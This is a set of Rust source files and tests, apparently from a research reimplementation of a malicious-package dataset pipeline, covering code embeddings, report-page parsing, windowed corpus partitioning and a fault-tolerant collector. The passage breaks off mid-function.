    fn sparse_dots_match_dense() {
        let a = sparse(8, &[(0, 1.0), (3, 2.0), (7, -1.5)]);
        let b = sparse(8, &[(3, 4.0), (5, 9.0), (7, 2.0)]);
        let (da, db) = (a.to_dense(), b.to_dense());
        assert_eq!(a.dot(&b).to_bits(), da.dot(&db).to_bits());
        assert_eq!(a.dot_dense(db.as_slice()).to_bits(), da.dot(&db).to_bits());
        assert_eq!(a.cosine(&b).to_bits(), da.cosine(&db).to_bits());
    }

    #[test]
    fn empty_sparse_is_the_zero_vector() {
        let z = sparse(4, &[]);
        assert_eq!(z.norm(), 0.0);
        assert_eq!(z.nnz(), 0);
        let a = sparse(4, &[(2, 5.0)]);
        assert_eq!(z.dot(&a), 0.0);
        assert_eq!(z.cosine(&a), 0.0);
        assert_eq!(z.to_dense().as_slice(), &[0.0; 4]);
    }

    #[test]
    #[should_panic(expected = "strictly ascending")]
    fn unsorted_indices_panic() {
        sparse(4, &[(2, 1.0), (1, 1.0)]);
    }

    #[test]
    #[should_panic(expected = "out of range")]
    fn out_of_range_index_panics() {
        sparse(4, &[(4, 1.0)]);
    }

    #[test]
    #[should_panic(expected = "dimension mismatch")]
    fn mismatched_dims_panic() {
        sparse(4, &[(0, 1.0)]).dot(&sparse(5, &[(0, 1.0)]));
    }
}
