//! Property tests for the embedding layer.

use embed::{EmbedBuffer, Embedder, Embedding};
use minilang::gen::{generate, mutate, Behavior, Mutation};
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn module_from(seed: u64, behavior: usize, muts: &[usize]) -> minilang::Module {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut m = generate(Behavior::ALL[behavior % Behavior::ALL.len()], &mut rng);
    for &i in muts {
        m = mutate(&m, Mutation::ALL[i % Mutation::ALL.len()], &mut rng);
    }
    m
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn cosine_stays_in_bounds(
        a in any::<u64>(), b in any::<u64>(),
        ba in 0usize..9, bb in 0usize..9,
        dim in 1usize..512,
    ) {
        let e = Embedder::new(dim);
        let va = e.embed(&module_from(a, ba, &[]));
        let vb = e.embed(&module_from(b, bb, &[]));
        let c = va.cosine(&vb);
        prop_assert!((-1.0..=1.0).contains(&c), "cosine {}", c);
        prop_assert!((va.cosine(&va) - 1.0).abs() < 1e-4 || va.norm() == 0.0);
    }

    #[test]
    fn literal_only_mutations_are_embedding_invariant(
        seed in any::<u64>(), behavior in 0usize..9,
    ) {
        // SwapStringLiteral and TweakIntConstant only touch literals,
        // which the canonical token stream buckets — cosine must be 1.
        let e = Embedder::new(256);
        let base = module_from(seed, behavior, &[]);
        let mut rng = StdRng::seed_from_u64(seed ^ 0xabc);
        let swapped = mutate(&base, Mutation::SwapStringLiteral, &mut rng);
        let tweaked = mutate(&base, Mutation::TweakIntConstant, &mut rng);
        prop_assert!((e.embed(&base).cosine(&e.embed(&swapped)) - 1.0).abs() < 1e-4);
        prop_assert!((e.embed(&base).cosine(&e.embed(&tweaked)) - 1.0).abs() < 1e-4);
    }

    #[test]
    fn rename_mutations_are_embedding_invariant(
        seed in any::<u64>(), behavior in 0usize..9,
    ) {
        let e = Embedder::new(256);
        let base = module_from(seed, behavior, &[]);
        let mut rng = StdRng::seed_from_u64(seed ^ 0xdef);
        let renamed = mutate(&base, Mutation::RenameIdentifier, &mut rng);
        prop_assert!(
            (e.embed(&base).cosine(&e.embed(&renamed)) - 1.0).abs() < 1e-4,
            "alpha-renaming must be invisible to the embedding"
        );
    }

    #[test]
    fn dimension_changes_the_vector_not_the_neighborhood(
        seed in any::<u64>(), behavior in 0usize..9,
    ) {
        let base = module_from(seed, behavior, &[]);
        let mut rng = StdRng::seed_from_u64(seed ^ 0x123);
        let near = mutate(&base, Mutation::InsertBenignFunction, &mut rng);
        for dim in [512usize, 2048] {
            let e = Embedder::new(dim);
            let c = e.embed(&base).cosine(&e.embed(&near));
            prop_assert!(c > 0.5, "dim {}: near-neighbour cosine {}", dim, c);
        }
    }

    /// The sparse embedding path is a pure layout change: densified
    /// sparse output, the reusable-buffer dense output and the plain
    /// dense output must agree **bitwise** — values, norms, everything.
    /// Buffer reuse across modules must not leak state.
    #[test]
    fn sparse_and_buffered_paths_are_bitwise_equal_to_dense(
        a in any::<u64>(), b in any::<u64>(),
        ba in 0usize..9, bb in 0usize..9,
        dim in 16usize..768,
    ) {
        let e = Embedder::new(dim);
        let (ma, mb) = (module_from(a, ba, &[]), module_from(b, bb, &[]));
        let dense = e.embed(&ma);
        let sparse = e.embed_sparse(&ma);
        let densified = sparse.to_dense();
        let bits = |v: &Embedding| -> Vec<u32> {
            v.as_slice().iter().map(|x| x.to_bits()).collect()
        };
        prop_assert_eq!(bits(&dense), bits(&densified));
        prop_assert_eq!(dense.norm().to_bits(), sparse.norm().to_bits());

        // One shared buffer, interleaved across two modules: outputs
        // must match the allocating paths bit for bit.
        let mut buf = EmbedBuffer::new();
        let mut out = Vec::new();
        e.embed_into(&ma, &mut buf, &mut out);
        prop_assert_eq!(
            bits(&dense),
            out.iter().map(|x| x.to_bits()).collect::<Vec<u32>>()
        );
        let sb = e.embed_sparse_into(&mb, &mut buf);
        prop_assert_eq!(&sb, &e.embed_sparse(&mb));
        e.embed_into(&ma, &mut buf, &mut out);
        prop_assert_eq!(
            bits(&dense),
            out.iter().map(|x| x.to_bits()).collect::<Vec<u32>>()
        );
    }

    /// Sparse·sparse and sparse·dense dot kernels against the dense dot,
    /// bit for bit. (Both sides are canonicalized with `+ 0.0` — the
    /// kernels may legitimately differ in the *sign* of an exactly-zero
    /// dot, which no comparison or downstream arithmetic can observe.)
    #[test]
    fn sparse_dot_kernels_match_dense_bitwise(
        a in any::<u64>(), b in any::<u64>(),
        ba in 0usize..9, bb in 0usize..9,
        dim in 16usize..768,
    ) {
        let e = Embedder::new(dim);
        let (ma, mb) = (module_from(a, ba, &[]), module_from(b, bb, &[]));
        let (da, db) = (e.embed(&ma), e.embed(&mb));
        let (sa, sb) = (e.embed_sparse(&ma), e.embed_sparse(&mb));
        let reference = da.dot(&db) + 0.0;
        prop_assert_eq!(reference.to_bits(), (sa.dot(&sb) + 0.0).to_bits());
        prop_assert_eq!(
            reference.to_bits(),
            (sa.dot_dense(db.as_slice()) + 0.0).to_bits()
        );
        prop_assert_eq!(
            (da.cosine(&db) + 0.0).to_bits(),
            (sa.cosine(&sb) + 0.0).to_bits()
        );
        prop_assert_eq!(
            (da.dot_normalized(&db) + 0.0).to_bits(),
            (sa.dot_normalized(&sb) + 0.0).to_bits()
        );
    }

    #[test]
    fn centroid_arithmetic_is_consistent(
        xs in proptest::collection::vec(-10.0f32..10.0, 4),
        ys in proptest::collection::vec(-10.0f32..10.0, 4),
    ) {
        let a = Embedding::from_raw(xs.clone());
        let b = Embedding::from_raw(ys.clone());
        let mut acc = Embedding::zeros(4);
        acc.add_assign(&a);
        acc.add_assign(&b);
        acc.scale_down(2.0);
        for (i, v) in acc.as_slice().iter().enumerate() {
            let expected = (xs[i] + ys[i]) / 2.0;
            prop_assert!((v - expected).abs() < 1e-5);
        }
        // distance_sq is symmetric and zero on self.
        prop_assert!((a.distance_sq(&b) - b.distance_sq(&a)).abs() < 1e-4);
        prop_assert_eq!(a.distance_sq(&a), 0.0);
    }
}
