//! Mention extraction from crawled pages.
//!
//! The paper's pipeline filters crawled pages by keyword ("malicious",
//! "malware"), then pulls package names and versions out of the report
//! content (§II-B). Here the same happens over the simulator's rendered
//! pages: keyword filter → `<code>` spans → `ecosystem/name@version`.

use crate::html;
use oss_types::PackageId;

/// Keywords a page must contain to be treated as a security report.
pub const KEYWORDS: [&str; 4] = ["malicious", "malware", "supply chain", "backdoor"];

/// Whether a crawled page passes the keyword filter.
pub fn keyword_filter(html_page: &str) -> bool {
    let text = html::visible_text(html_page).to_ascii_lowercase();
    let title = html::tag_texts(html_page, "title")
        .join(" ")
        .to_ascii_lowercase();
    KEYWORDS
        .iter()
        .any(|k| text.contains(k) || title.contains(k))
}

/// A report parsed from a crawled page.
#[derive(Debug, Clone, PartialEq)]
pub struct ParsedReport {
    /// Page title.
    pub title: String,
    /// Publication date string from the byline, if present (`YYYY-MM-DD`).
    pub published: Option<oss_types::SimTime>,
    /// Package identities named by the page.
    pub packages: Vec<PackageId>,
    /// Actor handle if the page names one in a `<b>` span.
    pub actor: Option<String>,
}

/// Parses one report page. Returns `None` when the page fails the
/// keyword filter or names no packages (an irrelevant page).
pub fn parse_report_page(page: &str) -> Option<ParsedReport> {
    if !keyword_filter(page) {
        return None;
    }
    let packages = extract_package_ids(page);
    if packages.is_empty() {
        return None;
    }
    let title = html::tag_texts(page, "title")
        .into_iter()
        .next()
        .unwrap_or_default();
    let actor = html::tag_texts(page, "b").into_iter().next();
    let published = html::tag_texts(page, "p")
        .iter()
        .find_map(|p| extract_date(p));
    Some(ParsedReport {
        title,
        published,
        packages,
        actor,
    })
}

/// Extracts every parseable `ecosystem/name@version` identity from the
/// page's `<code>` spans, preserving order and dropping duplicates.
pub fn extract_package_ids(page: &str) -> Vec<PackageId> {
    let mut out: Vec<PackageId> = Vec::new();
    for span in html::tag_texts(page, "code") {
        if let Ok(id) = span.trim().parse::<PackageId>() {
            if !out.contains(&id) {
                out.push(id);
            }
        }
    }
    out
}

fn extract_date(text: &str) -> Option<oss_types::SimTime> {
    // Scan for a YYYY-MM-DD substring (bylines may contain multi-byte
    // punctuation, so respect char boundaries).
    let bytes = text.as_bytes();
    for start in 0..bytes.len().saturating_sub(9) {
        if !text.is_char_boundary(start) || !text.is_char_boundary(start + 10) {
            continue;
        }
        let candidate = &text[start..start + 10];
        if candidate.as_bytes()[4] == b'-' && candidate.as_bytes()[7] == b'-' {
            if let Ok(t) = candidate.parse() {
                return Some(t);
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAGE: &str = r#"<html><head><title>Malicious packages flood npm</title></head>
<body><p class="byline">vendor — 2023-08-12 00:00</p>
<p>The actor <b>actor-0007</b> published these.</p>
<ul>
<li><code>npm/etc-crypto@1.0.0</code> <span class="ioc">sha256:abcd</span></li>
<li><code>npm/cloud-layout@1.0.0</code></li>
<li><code>not a package id</code></li>
</ul></body></html>"#;

    #[test]
    fn full_page_parses() {
        let report = parse_report_page(PAGE).expect("valid report");
        assert_eq!(report.title, "Malicious packages flood npm");
        assert_eq!(report.packages.len(), 2);
        assert_eq!(report.packages[0].to_string(), "npm/etc-crypto@1.0.0");
        assert_eq!(report.actor.as_deref(), Some("actor-0007"));
        assert_eq!(
            report.published,
            Some(oss_types::SimTime::from_ymd(2023, 8, 12))
        );
    }

    #[test]
    fn keyword_filter_drops_irrelevant_pages() {
        let benign = "<html><title>Release notes v2.1</title><body>\
                      <code>npm/lodash@4.0.0</code> improvements</body></html>";
        assert!(!keyword_filter(benign));
        assert_eq!(parse_report_page(benign), None);
    }

    #[test]
    fn keyword_in_body_is_enough() {
        let page = "<html><title>weekly digest</title><body>\
                    we found malware in <code>pypi/evil@1.0.0</code></body></html>";
        assert!(keyword_filter(page));
        let report = parse_report_page(page).unwrap();
        assert_eq!(report.packages.len(), 1);
    }

    #[test]
    fn report_without_packages_is_dropped() {
        let page = "<html><title>malware trends 2023</title>\
                    <body>no specific packages here</body></html>";
        assert_eq!(parse_report_page(page), None);
    }

    #[test]
    fn malformed_ids_are_skipped_duplicates_deduped() {
        let page = "<html><title>malicious roundup</title><body>\
                    <code>npm/a@1.0.0</code><code>npm/a@1.0.0</code>\
                    <code>@broken</code><code>npm/UPPER@1.0.0</code></body></html>";
        let ids = extract_package_ids(page);
        assert_eq!(ids.len(), 1);
    }

    #[test]
    fn date_extraction_handles_prefixes() {
        assert_eq!(
            extract_date("vendor corp — 2022-11-03 08:15"),
            Some(oss_types::SimTime::from_ymd(2022, 11, 3))
        );
        assert_eq!(extract_date("no date here"), None);
        assert_eq!(extract_date("bad 2022-13-99 date"), None);
    }
}
