//! Windowed collection: the corpus as a sequence of deltas (ISSUE 8).
//!
//! Continuous monitoring re-crawls the sources on a cadence; each crawl
//! surfaces the packages and reports first disclosed since the last
//! one. This module models that as a partition of one deterministic
//! [`collect_with`] run over a [`WindowPlan`]:
//!
//! * a **package** belongs to the window containing its *earliest*
//!   mention disclosure, and carries its full merged record (all
//!   mentions, archive, signature, registry metadata) — the collector
//!   back-fills everything knowable at first sight, which is exact in
//!   the simulator because artifacts and metadata are time-invariant
//!   and transport fault draws are keyed by document, not crawl time;
//! * a **report** belongs to the window containing its publication
//!   time (reports without one surface at the collection cutoff).
//!
//! Because assignment is a partition of the one-shot dataset in its
//! original order, concatenating the deltas of windows `0..n`
//! ([`union_dataset`]) reproduces the one-shot corpus *byte for byte* —
//! the property the incremental graph builder's equivalence oracle
//! rests on. Collection health is a whole-run aggregate and stays on
//! the one-shot path; deltas do not carry it.

use crate::dataset::{collect_with, CollectOptions, CollectedDataset, CollectedPackage, CollectedReport};
use oss_types::SimTime;
use registry_sim::{WindowPlan, World};

/// The packages and reports one collection window surfaced, plus the
/// dataset-level constants every window shares.
#[derive(Debug, Clone)]
pub struct CorpusDelta {
    /// Window index within the plan.
    pub window: usize,
    /// Exclusive lower bound of the window.
    pub start: SimTime,
    /// Inclusive upper bound of the window.
    pub end: SimTime,
    /// Packages first disclosed in this window, in corpus order.
    pub packages: Vec<CollectedPackage>,
    /// Reports published in this window, in corpus order.
    pub reports: Vec<CollectedReport>,
    /// Total crawled websites (a whole-run constant).
    pub website_count: usize,
    /// The collection cutoff (a whole-run constant).
    pub collect_time: SimTime,
}

impl CorpusDelta {
    /// Appends this delta to `dataset`, updating the dataset-level
    /// constants. Applying the deltas of a plan in window order onto an
    /// empty dataset reproduces the one-shot corpus exactly.
    pub fn apply_to(&self, dataset: &mut CollectedDataset) {
        dataset.packages.extend(self.packages.iter().cloned());
        dataset.reports.extend(self.reports.iter().cloned());
        dataset.website_count = self.website_count;
        dataset.collect_time = self.collect_time;
    }

    /// The window a collected package belongs to under `plan`: the one
    /// containing its earliest mention disclosure.
    pub fn window_of_package(plan: &WindowPlan, package: &CollectedPackage, cutoff: SimTime) -> usize {
        let first = package
            .mentions
            .iter()
            .map(|&(_, disclosed)| disclosed)
            .min()
            .unwrap_or(cutoff);
        plan.window_of(first)
    }

    /// The window a collected report belongs to under `plan`.
    pub fn window_of_report(plan: &WindowPlan, report: &CollectedReport, cutoff: SimTime) -> usize {
        plan.window_of(report.published.unwrap_or(cutoff))
    }
}

/// Splits a collected dataset into one delta per plan window.
///
/// Packages and reports keep their relative corpus order inside each
/// window, so the deltas are a true partition: concatenated back
/// together they equal `dataset` (minus the whole-run health aggregate,
/// which windowing does not attribute).
pub fn partition_windows(dataset: &CollectedDataset, plan: &WindowPlan) -> Vec<CorpusDelta> {
    let _span = obs::span!("collect/windows/partition");
    let cutoff = dataset.collect_time;
    let mut deltas: Vec<CorpusDelta> = (0..plan.window_count())
        .map(|i| CorpusDelta {
            window: i,
            start: plan.window_start(i),
            end: plan.bound(i),
            packages: Vec::new(),
            reports: Vec::new(),
            website_count: dataset.website_count,
            collect_time: dataset.collect_time,
        })
        .collect();
    for package in &dataset.packages {
        let w = CorpusDelta::window_of_package(plan, package, cutoff);
        deltas[w].packages.push(package.clone());
    }
    for report in &dataset.reports {
        let w = CorpusDelta::window_of_report(plan, report, cutoff);
        deltas[w].reports.push(report.clone());
    }
    for delta in &deltas {
        obs::counter_add("crawler.windowed_packages", delta.packages.len() as u64);
        obs::counter_add("crawler.windowed_reports", delta.reports.len() as u64);
    }
    obs::counter_add("crawler.windows", deltas.len() as u64);
    deltas
}

/// Runs the resilient collector once and partitions the result over
/// `plan` — the windowed entry point of the streaming ingestion path.
pub fn collect_windows(world: &World, options: &CollectOptions, plan: &WindowPlan) -> Vec<CorpusDelta> {
    let _span = obs::span!("collect/windows");
    let dataset = collect_with(world, options);
    partition_windows(&dataset, plan)
}

/// The suffix of `deltas` still to apply after the first `applied`
/// windows have been made durable — the resumable window plan a
/// checkpointed ingest run continues from. Clamped, so a checkpoint
/// claiming more windows than the plan holds yields an empty remainder
/// instead of a panic.
pub fn resume_windows(deltas: &[CorpusDelta], applied: usize) -> &[CorpusDelta] {
    &deltas[applied.min(deltas.len())..]
}

/// Concatenates deltas (in the order given) back into one dataset —
/// the right-hand side of the ingest equivalence oracle.
pub fn union_dataset(deltas: &[CorpusDelta]) -> CollectedDataset {
    let mut dataset = CollectedDataset {
        packages: Vec::new(),
        reports: Vec::new(),
        website_count: 0,
        collect_time: SimTime::from_minutes(0),
        health: None,
    };
    for delta in deltas {
        delta.apply_to(&mut dataset);
    }
    dataset
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::collect;
    use registry_sim::WorldConfig;

    #[test]
    fn partition_is_a_union_preserving_permutation() {
        let world = World::generate(WorldConfig::small(7));
        let dataset = collect(&world);
        let plan = WindowPlan::disclosure_quantiles(&world, 4);
        let deltas = partition_windows(&dataset, &plan);
        assert_eq!(deltas.len(), plan.window_count());
        let union = union_dataset(&deltas);
        assert_eq!(union.website_count, dataset.website_count);
        assert_eq!(union.collect_time, dataset.collect_time);
        assert_eq!(union.packages.len(), dataset.packages.len());
        assert_eq!(union.reports.len(), dataset.reports.len());
        // The union is a window-grouped permutation of the corpus; each
        // window preserves corpus order internally.
        let mut expected: Vec<&CollectedPackage> = dataset.packages.iter().collect();
        expected.sort_by_key(|p| {
            (
                CorpusDelta::window_of_package(&plan, p, dataset.collect_time),
                dataset.packages.iter().position(|q| std::ptr::eq(q, *p)),
            )
        });
        for (got, want) in union.packages.iter().zip(expected) {
            assert_eq!(got, want);
        }
    }

    #[test]
    fn every_window_member_falls_inside_its_bounds() {
        let world = World::generate(WorldConfig::small(7));
        let dataset = collect(&world);
        let plan = WindowPlan::disclosure_quantiles(&world, 5);
        let last = plan.window_count() - 1;
        for delta in partition_windows(&dataset, &plan) {
            for package in &delta.packages {
                let first = package.mentions.iter().map(|&(_, t)| t).min().unwrap();
                assert!(first <= delta.end || delta.window == last);
                if delta.window > 0 {
                    assert!(first > delta.start);
                }
            }
            for report in &delta.reports {
                let t = report.published.unwrap_or(dataset.collect_time);
                assert!(t <= delta.end || delta.window == last);
            }
        }
    }

    #[test]
    fn resume_windows_clamps_and_partitions() {
        let world = World::generate(WorldConfig::small(7));
        let dataset = collect(&world);
        let plan = WindowPlan::disclosure_quantiles(&world, 4);
        let deltas = partition_windows(&dataset, &plan);
        assert_eq!(resume_windows(&deltas, 0).len(), deltas.len());
        assert_eq!(resume_windows(&deltas, 2).len(), deltas.len() - 2);
        assert_eq!(resume_windows(&deltas, 2)[0].window, 2);
        assert!(resume_windows(&deltas, deltas.len()).is_empty());
        assert!(resume_windows(&deltas, deltas.len() + 5).is_empty(), "clamped, not a panic");
    }

    #[test]
    fn single_window_plan_reproduces_the_one_shot_corpus() {
        let world = World::generate(WorldConfig::small(11));
        let dataset = collect(&world);
        let plan = WindowPlan::equal_span(
            SimTime::from_minutes(0),
            world.config.collect_time,
            1,
        );
        let deltas = partition_windows(&dataset, &plan);
        assert_eq!(deltas.len(), 1);
        let union = union_dataset(&deltas);
        assert_eq!(union.packages, dataset.packages);
        assert_eq!(union.reports, dataset.reports);
    }
}
