//! Dataset assembly: merge all sources, recover from mirrors, crawl the
//! report corpus — the output the MALGRAPH builder consumes.
//!
//! Two entry points:
//!
//! * [`collect`] — the zero-fault fast path: every fetch succeeds, no
//!   health telemetry (legacy behaviour, unchanged callers);
//! * [`collect_with`] — the resilient collector: every fetch goes
//!   through the seeded unreliable [`transport`](crate::transport),
//!   transient failures retry on a bounded backoff schedule, permanent
//!   failures drop the document instead of panicking, and the run's
//!   [`CollectionHealth`] is threaded into the dataset. Per-source
//!   crawls fan out across scoped worker threads and merge in
//!   [`SourceId::ALL`] order, so the corpus is bitwise-identical at any
//!   thread count.

use crate::extract;
use crate::recover::MirrorSearch;
use crate::registry::{RegistryMeta, RegistryView};
use crate::sources::{self, Archive, RawMention};
use crate::transport::{CollectionHealth, FetchHealth, Transport};
use oss_types::fetch::{FaultConfig, RetryPolicy};
use oss_types::{PackageId, Sha256, SimTime, SourceId};
use registry_sim::fault::{channel_id, FaultPlan};
use registry_sim::{ReportCategory, World};
use std::collections::HashMap;

/// One distinct package in the merged corpus.
#[derive(Debug, Clone, PartialEq)]
pub struct CollectedPackage {
    /// Registry identity.
    pub id: PackageId,
    /// Every source that mentioned it, with disclosure time.
    pub mentions: Vec<(SourceId, SimTime)>,
    /// The artifact, when any source shipped it or a mirror held it.
    pub archive: Option<Archive>,
    /// Artifact signature (computed from the archive, like the paper's
    /// `hashlib` step); `None` while the package is unavailable.
    pub signature: Option<Sha256>,
    /// Whether the archive came from a mirror rather than a source dump.
    pub recovered_from_mirror: bool,
    /// Whether *some* mirror held the artifact at collection time,
    /// regardless of whether a dump already shipped it. Used by the
    /// single-source missing-rate analysis (Table VI).
    pub mirror_recoverable: bool,
    /// Public registry metadata (release date, removal date, downloads),
    /// from the registry's public API.
    pub meta: Option<RegistryMeta>,
}

impl CollectedPackage {
    /// Whether the artifact is available.
    pub fn is_available(&self) -> bool {
        self.archive.is_some()
    }
}

/// One security report crawled from the report-corpus websites.
#[derive(Debug, Clone, PartialEq)]
pub struct CollectedReport {
    /// Publishing website name.
    pub website: String,
    /// Website category (Table III).
    pub category: ReportCategory,
    /// Publication date parsed from the page.
    pub published: Option<SimTime>,
    /// Page title.
    pub title: String,
    /// Packages the report names.
    pub packages: Vec<PackageId>,
    /// Actor handle if disclosed.
    pub actor: Option<String>,
}

/// The fully assembled corpus.
#[derive(Debug, Clone)]
pub struct CollectedDataset {
    /// Distinct packages, in first-mention order.
    pub packages: Vec<CollectedPackage>,
    /// Crawled security reports.
    pub reports: Vec<CollectedReport>,
    /// Number of report-corpus websites crawled.
    pub website_count: usize,
    /// When collection ran.
    pub collect_time: SimTime,
    /// Fetch telemetry of the run. `None` for legacy fault-free corpora
    /// (the [`collect`] fast path and manifests exported before the
    /// health schema existed).
    pub health: Option<CollectionHealth>,
}

impl CollectedDataset {
    /// Looks up a collected package by identity.
    pub fn get(&self, id: &PackageId) -> Option<&CollectedPackage> {
        self.packages.iter().find(|p| &p.id == id)
    }

    /// `(available, unavailable)` mention counts per source — the rows of
    /// the paper's Table I.
    pub fn table1_counts(&self) -> HashMap<SourceId, (usize, usize)> {
        let mut out: HashMap<SourceId, (usize, usize)> = HashMap::new();
        for pkg in &self.packages {
            for &(source, _) in &pkg.mentions {
                let entry = out.entry(source).or_default();
                // A mention is available when the *source itself* ships
                // archives (dumps) or the package was recovered.
                let dump = matches!(
                    source.publication_style(),
                    oss_types::source::PublicationStyle::DatasetDump
                );
                if dump || pkg.is_available() {
                    entry.0 += 1;
                } else {
                    entry.1 += 1;
                }
            }
        }
        out
    }
}

/// Options of the resilient collector ([`collect_with`]).
#[derive(Debug, Clone, Copy)]
pub struct CollectOptions {
    /// Fault rates of the unreliable transport.
    pub faults: FaultConfig,
    /// Retry/backoff schedule for transient failures.
    pub retry: RetryPolicy,
    /// Worker threads for the per-source crawls. `0` picks the host's
    /// available parallelism. The corpus is bitwise-identical at any
    /// value — fault draws are keyed by document, not by thread.
    pub threads: usize,
    /// Explicit fault-plan seed; `None` derives it from the world seed,
    /// so `(world seed, fault config)` alone reproduces a run.
    pub fault_seed: Option<u64>,
}

impl Default for CollectOptions {
    fn default() -> Self {
        CollectOptions {
            faults: FaultConfig::NONE,
            retry: RetryPolicy::STANDARD,
            threads: 0,
            fault_seed: None,
        }
    }
}

/// Runs the full collection pipeline against a world — the zero-fault
/// fast path:
///
/// 1. render + parse every source's feed ([`sources`]);
/// 2. merge mentions into distinct packages;
/// 3. search mirrors for everything still unavailable ([`MirrorSearch`]);
/// 4. crawl the report-corpus websites ([`extract`]).
///
/// Equivalent to [`collect_with`] under a fault-free transport, minus
/// the health report (`dataset.health` is `None`).
pub fn collect(world: &World) -> CollectedDataset {
    let mut dataset = collect_with(world, &CollectOptions::default());
    dataset.health = None;
    dataset
}

/// Runs the collection pipeline through the unreliable transport.
///
/// Same stages as [`collect`], but every feed document, mirror lookup
/// and report page is fetched through a seeded fault plan: transient
/// failures retry with bounded deterministic backoff, permanently
/// failed documents are dropped (never a panic, at any fault rate), and
/// per-source [`CollectionHealth`] telemetry is recorded on the
/// returned dataset. The per-source crawls run on up to
/// `options.threads` scoped workers and merge in [`SourceId::ALL`]
/// order, so the corpus for a given `(seed, fault config)` is
/// bitwise-identical at any thread count.
pub fn collect_with(world: &World, options: &CollectOptions) -> CollectedDataset {
    let _collect_span = obs::span!("collect");
    let plan = match options.fault_seed {
        Some(seed) => FaultPlan::new(seed),
        None => FaultPlan::for_world(&world.config),
    };
    let transport = Transport::new(plan, options.faults, options.retry);
    let mut health = CollectionHealth::new();

    // 1. Feeds, fanned out per source.
    let stage = obs::span!("collect/feeds");
    let per_source = crawl_feeds(world, &transport, options.threads);
    let mut raw: Vec<RawMention> = Vec::new();
    for (source, (mentions, source_health)) in SourceId::ALL.iter().zip(per_source) {
        raw.extend(mentions);
        *health.source_mut(*source) = source_health;
    }
    obs::counter_add("crawler.raw_mentions", raw.len() as u64);
    drop(stage);

    // 2. Merge by identity.
    let stage = obs::span!("collect/merge");
    let mut order: Vec<PackageId> = Vec::new();
    let mut merged: HashMap<PackageId, CollectedPackage> = HashMap::new();
    for mention in raw {
        let entry = merged.entry(mention.id.clone()).or_insert_with(|| {
            order.push(mention.id.clone());
            CollectedPackage {
                id: mention.id.clone(),
                mentions: Vec::new(),
                archive: None,
                signature: None,
                recovered_from_mirror: false,
                mirror_recoverable: false,
                meta: None,
            }
        });
        entry.mentions.push((mention.source, mention.disclosed));
        if entry.archive.is_none() {
            entry.archive = mention.archive;
        }
    }

    obs::counter_add("crawler.distinct_packages", order.len() as u64);
    drop(stage);

    // 3. Mirror recovery for the rest, plus public registry metadata.
    // Each lookup is one fetch keyed by a stable hash of the package
    // identity, so its fate is independent of iteration order.
    let stage = obs::span!("collect/mirror");
    let search = MirrorSearch::new(world);
    for id in &order {
        let pkg = merged.get_mut(id).expect("merged entry exists");
        pkg.meta = world.metadata(&pkg.id);
        let lookup = transport.fetch_mirror_lookup(channel_id(&pkg.id.to_string()));
        health.mirror.record(&lookup);
        if lookup.delivered {
            let mirror_hit = search.lookup(&pkg.id);
            pkg.mirror_recoverable = mirror_hit.is_some();
            if pkg.archive.is_none() {
                if let Some(archive) = mirror_hit {
                    pkg.archive = Some(archive);
                    pkg.recovered_from_mirror = true;
                }
            }
        }
        if let Some(archive) = &pkg.archive {
            pkg.signature = Some(registry_sim::campaign::artifact_signature(
                &pkg.id,
                &archive.description,
                &archive.dependencies,
                &archive.code,
            ));
        }
    }

    drop(stage);

    // 4. Report corpus; a dropped page loses that report, nothing else.
    let stage = obs::span!("collect/reports");
    let mut reports = Vec::new();
    for report in &world.reports {
        let fetch = transport.fetch_report_page(u64::from(report.id));
        health.report_corpus.record(&fetch);
        if !fetch.delivered {
            continue;
        }
        let website = &world.websites[report.website];
        let html = registry_sim::report::render_html(report, website, |idx| {
            let p = world.package(idx);
            (p.id.clone(), p.signature.short())
        });
        if let Some(parsed) = extract::parse_report_page(&html) {
            reports.push(CollectedReport {
                website: website.name.clone(),
                category: website.category,
                published: parsed.published,
                title: parsed.title,
                packages: parsed.packages,
                actor: parsed.actor,
            });
        }
    }

    obs::counter_add("crawler.reports", reports.len() as u64);
    drop(stage);

    health.absorb_into_obs();
    let total = health.total();
    if total.dropped > 0 {
        obs::warn!(
            "collection dropped {} documents ({} retries, {} recovered)",
            total.dropped,
            total.retries,
            total.recovered
        );
    }

    let packages = order
        .into_iter()
        .map(|id| merged.remove(&id).expect("merged entry exists"))
        .collect();
    CollectedDataset {
        packages,
        reports,
        website_count: world.websites.len(),
        collect_time: world.config.collect_time,
        health: Some(health),
    }
}

/// Crawls every source's feed through the transport, on up to `threads`
/// scoped workers (`0` = available parallelism). Returns one
/// `(mentions, health)` pair per source, in [`SourceId::ALL`] order
/// regardless of scheduling.
fn crawl_feeds(
    world: &World,
    transport: &Transport,
    threads: usize,
) -> Vec<(Vec<RawMention>, FetchHealth)> {
    let workers = effective_workers(threads).min(SourceId::ALL.len());
    if workers <= 1 {
        return SourceId::ALL
            .iter()
            .map(|&source| crawl_source(world, source, transport))
            .collect();
    }
    // Sources are striped across workers; each result lands in its
    // source's fixed slot, so the merge order never depends on timing.
    let mut slots: Vec<Option<(Vec<RawMention>, FetchHealth)>> =
        (0..SourceId::ALL.len()).map(|_| None).collect();
    // Workers attach the caller's span stack so the per-source spans in
    // `crawl_source` fold identically to the serial path above.
    let ctx = obs::current_context();
    crossbeam::thread::scope(|scope| {
        let handles: Vec<_> = (0..workers)
            .map(|worker| {
                let ctx = &ctx;
                scope.spawn(move |_| {
                    let _attached = ctx.attach();
                    SourceId::ALL
                        .iter()
                        .enumerate()
                        .filter(|(i, _)| i % workers == worker)
                        .map(|(i, &source)| (i, crawl_source(world, source, transport)))
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        for handle in handles {
            for (i, result) in handle.join().expect("crawl worker must not panic") {
                slots[i] = Some(result);
            }
        }
    })
    .expect("crossbeam scope");
    slots
        .into_iter()
        .map(|slot| slot.expect("every source crawled"))
        .collect()
}

/// Renders one source's feed and fetches each document through the
/// transport; delivered documents are parsed, dropped ones counted.
fn crawl_source(
    world: &World,
    source: SourceId,
    transport: &Transport,
) -> (Vec<RawMention>, FetchHealth) {
    let _span = obs::span!("collect/feeds/source={}", source.slug());
    let mut health = FetchHealth::default();
    let mut mentions = Vec::new();
    let documents = sources::render_feed(world, source);
    for (index, document) in documents.iter().enumerate() {
        let outcome = transport.fetch_feed_document(source, index);
